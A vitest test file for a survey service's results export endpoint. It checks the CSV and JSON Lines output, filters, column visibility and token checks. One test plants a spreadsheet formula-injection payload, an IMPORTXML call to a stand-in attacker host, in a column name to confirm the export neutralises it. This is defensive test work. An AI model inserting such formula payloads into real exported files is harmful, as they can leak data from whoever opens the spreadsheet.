import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { errorBodySchema } from '../../../src/protocol/index'
import { resultsPageSchema } from '../../../src/protocol/results'
import { CSV_CELLS } from '../fixtures/csv-cells'
import { HOSTILE_EXPORT_QUERIES } from '../fixtures/hostile-result-queries'
import { useTestDatabase } from '../helpers/database'
import { collectResult, publishedSurvey as publishSurvey, resultsPath } from '../helpers/results'
import { createTestService, type TestService } from '../helpers/service'

const db = useTestDatabase()
let svc: TestService
beforeEach(async () => {
  svc = await createTestService(db)
})
afterEach(() => svc.close())

const publishedSurvey = (overrides: Record<string, unknown> = {}) => publishSurvey(svc, overrides)

/** The export as its bytes say (a byte order mark included: `Response.text()` would drop it). */
async function exportOf(flowId: string, query: Record<string, string> = {}) {
  const response = await svc.app.request(resultsPath(flowId, query, '/export'), {
    headers: { authorization: `Bearer ${svc.tokens.secret}` },
  })
  const text = new TextDecoder('utf-8', { ignoreBOM: true, fatal: true }).decode(await response.arrayBuffer())
  return { status: response.status, headers: response.headers, text, body: response.status === 200 ? undefined : JSON.parse(text) }
}

/** An id as a CSV cell: ids may begin with `-`, which the export neutralises like any other cell. */
const csvId = (id: string) => (id.startsWith('-') ? `'${id}` : id)

/** The rows of the results list, by id: their timestamps, as the export writes them. */
async function rowsById(flowId: string) {
  const res = await svc.call('GET', resultsPath(flowId, { limit: '100' }), { token: svc.tokens.secret })
  return new Map(resultsPageSchema.parse(res.body).results.map((row) => [row.id, row]))
}

describe('GET /v1/flows/{flowId}/results/export', () => {
  it('writes CSV in UTF-8 with a byte order mark, a header of column names and one row per result', async () => {
    const flow = await publishedSurvey()
    svc.clock.advance(1_000)
    const ada = await collectResult(svc, flow.id, ['Ada', 'ada@example.com', '36'], { Source: 'newsletter' })
    svc.clock.advance(1_000)
    const bob = await collectResult(svc, flow.id, ['Bob'])
    const res = await exportOf(flow.id)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${flow.publicId}-results.csv"`)
    expect(res.headers.get('cache-control')).toBe('no-store')
    const rows = await rowsById(flow.id)
    const line = (id: string, rest: string) => `${csvId(id)},${rows.get(id)!.createdAt},${rows.get(id)!.updatedAt},${rest}`
    expect(res.text).toBe(
      '\uFEFF' +
        [
          'Result id,Created at,Updated at,Completed,Version,User id,Name,Contact,Age,Source,Notes',
          line(bob, 'no,1,,Bob,,,,'),
          line(ada, 'yes,1,,Ada,ada@example.com,36,newsletter,'),
          '',
        ].join('\r\n'),
    )
  })

  it.each(CSV_CELLS)('writes $tries so that a spreadsheet shows it as text', async ({ value, csv }) => {
    const flow = await publishedSurvey()
    const id = await collectResult(svc, flow.id, [], { Source: value })
    const row = (await rowsById(flow.id)).get(id)!
    const res = await exportOf(flow.id)
    expect(res.text).toContain(`\r\n${csvId(id)},${row.createdAt},${row.updatedAt},no,1,,,,,${csv},\r\n`)
  })

  it('neutralises formulas in the header too (column names come from the flow)', async () => {
    const flow = await publishedSurvey({ variables: [{ id: 'v-name', name: '=IMPORTXML("http://evil.example","//a")' }] })
    const res = await exportOf(flow.id)
    expect(res.text.split('\r\n')[0]).toBe(
      `\uFEFFResult id,Created at,Updated at,Completed,Version,User id,"'=IMPORTXML(""http://evil.example"",""//a"")",Contact,Ask age`,
    )
  })

  it('writes JSON Lines, one object per result with its values by column name, newest first', async () => {
    const flow = await publishedSurvey()
    svc.clock.advance(1_000)
    const ada = await collectResult(svc, flow.id, ['Ada', 'ada@example.com', '36'], { Source: 'newsletter' })
    svc.clock.advance(1_000)
    const bob = await collectResult(svc, flow.id, ['Bob'])
    const res = await exportOf(flow.id, { format: 'jsonl' })
    expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${flow.publicId}-results.jsonl"`)
    const rows = await rowsById(flow.id)
    expect(res.text.endsWith('\n')).toBe(true)
    expect(
      res.text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line)),
    ).toEqual([
      {
        id: bob,
        createdAt: rows.get(bob)!.createdAt,
        updatedAt: rows.get(bob)!.updatedAt,
        isCompleted: false,
        version: 1,
        userId: null,
        values: { Name: 'Bob' },
      },
      {
        id: ada,
        createdAt: rows.get(ada)!.createdAt,
        updatedAt: rows.get(ada)!.updatedAt,
        isCompleted: true,
        version: 1,
        userId: null,
        values: { Name: 'Ada', Contact: 'ada@example.com', Age: '36', Source: 'newsletter' },
      },
    ])
  })

  it('exports what the filters select, and only the visible columns when asked', async () => {
    const flow = await publishedSurvey({
      resultsTablePreferences: { columnsOrder: ['b-age'], columnsVisibility: { 'b-email': false, 'v-notes': false } },
    })
    svc.clock.advance(1_000)
    const ada = await collectResult(svc, flow.id, ['Ada', 'ada@example.com', '36'])
    svc.clock.advance(1_000)
    await collectResult(svc, flow.id, ['Bob'])
    const res = await exportOf(flow.id, { completed: 'true', columns: 'visible', q: 'ADA@' })
    const lines = res.text.split('\r\n')
    expect(lines[0]).toBe('\uFEFFResult id,Created at,Updated at,Completed,Version,User id,Age,Name,Source')
    expect(lines.slice(1)).toEqual([expect.stringMatching(new RegExp(`^${csvId(ada)},.*,yes,1,,36,Ada,$`)), ''])
    const all = await exportOf(flow.id, { columns: 'all' })
    expect(all.text.split('\r\n')[0]).toBe('\uFEFFResult id,Created at,Updated at,Completed,Version,User id,Age,Name,Contact,Source,Notes')
  })

  it('writes only the header for a flow without results', async () => {
    const flow = await publishedSurvey()
    expect((await exportOf(flow.id)).text).toBe(
      '\uFEFFResult id,Created at,Updated at,Completed,Version,User id,Name,Contact,Age,Source,Notes\r\n',
    )
    expect((await exportOf(flow.id, { format: 'jsonl' })).text).toBe('')
  })

  it.each(HOSTILE_EXPORT_QUERIES)('answers $tries with 400 and the error body', async ({ query, path }) => {
    const flow = await publishedSurvey()
    const res = await exportOf(flow.id, query)
    expect(res.status).toBe(400)
    expect(errorBodySchema.parse(res.body).error.details).toEqual([expect.objectContaining({ path })])
  })

  it('never exports without a secret token of the workspace', async () => {
    const flow = await publishedSurvey()
    await collectResult(svc, flow.id, ['Ada'])
    for (const [token, status] of [
      [undefined, 401],
      [svc.tokens.publishable, 403],
      [svc.tokens.otherSecret, 404],
    ] as const) {
      const res = await svc.call('GET', resultsPath(flow.id, {}, '/export'), token ? { token } : {})
      expect(res.status).toBe(status)
      expect(errorBodySchema.parse(res.body).error.code).toBeTruthy()
      expect(res.text).not.toContain('Ada')
    }
  })
})
